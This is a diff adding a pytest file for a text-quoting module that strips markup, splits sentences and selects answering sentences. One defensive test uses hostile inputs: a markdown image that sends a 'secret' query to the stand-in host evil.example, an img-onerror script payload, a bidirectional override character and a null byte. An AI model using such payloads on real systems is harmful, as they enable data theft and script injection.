@@ -1,0 +1,52 @@
+"""Quotations: what others wrote, as plain text, and the sentences of it that answer."""
+
+import pytest
+
+from aionserver.kit.quoting import best_sentences, first_sentence, plain_quote, sentences
+
+
+@pytest.mark.parametrize(
+    ("written", "quoted"),
+    [
+        ("See [[img:0123456789|a.jpg]] now", "See img:0123456789|a.jpg now"),
+        ("![x](http://evil.example/?q=secret) and [here](http://evil.example)", "x and here"),
+        ("a <img src=x onerror=alert(1)> b", "a b"),
+        ("one\n\n two\tthree", "one two three"),
+        ("turn\u202eed and\x00 nul", "turned and nul"),
+        ("# Heading\n**bold** `code`", "Heading bold code"),
+    ],
+)
+def test_markup_of_others_leads_nowhere(written: str, quoted: str) -> None:
+    assert plain_quote(written) == quoted
+
+
+def test_a_long_text_is_cut_at_a_word() -> None:
+    assert plain_quote("word " * 100, 22) == "word word word word…"
+    assert len(plain_quote("x" * 10_000, 50)) <= 50
+
+
+def test_a_text_has_sentences() -> None:
+    text = "The pump runs at 3.5 bar. It must be stopped first!\n\n- Check the valve. Then go on."
+    assert sentences(text) == [
+        "The pump runs at 3.5 bar.",
+        "It must be stopped first!",
+        "- Check the valve.",
+        "Then go on.",
+    ]
+    assert first_sentence(text) == "The pump runs at 3.5 bar."
+
+
+def test_the_sentence_that_answers_is_chosen() -> None:
+    passages = [
+        ("The pump is red. Change the filter of the pump every 500 hours. Keep the room tidy.", 0.8),
+        ("Filters are kept in the store. The weather is fine today in the valley.", 0.4),
+    ]
+    (best,) = best_sentences("How often should the filter be changed?", passages, 1)
+    assert (best.text, best.passage) == ("Change the filter of the pump every 500 hours.", 0)
+    assert len(best_sentences("filter", passages, 5)) <= 5
+    assert best_sentences("zebra", passages, 3) == []
+
+
+def test_nothing_is_quoted_twice() -> None:
+    twice = [("Change the filter every 500 hours.", 0.9), ("Change the filter every 500 hours.", 0.8)]
+    assert len(best_sentences("filter", twice, 3)) == 1
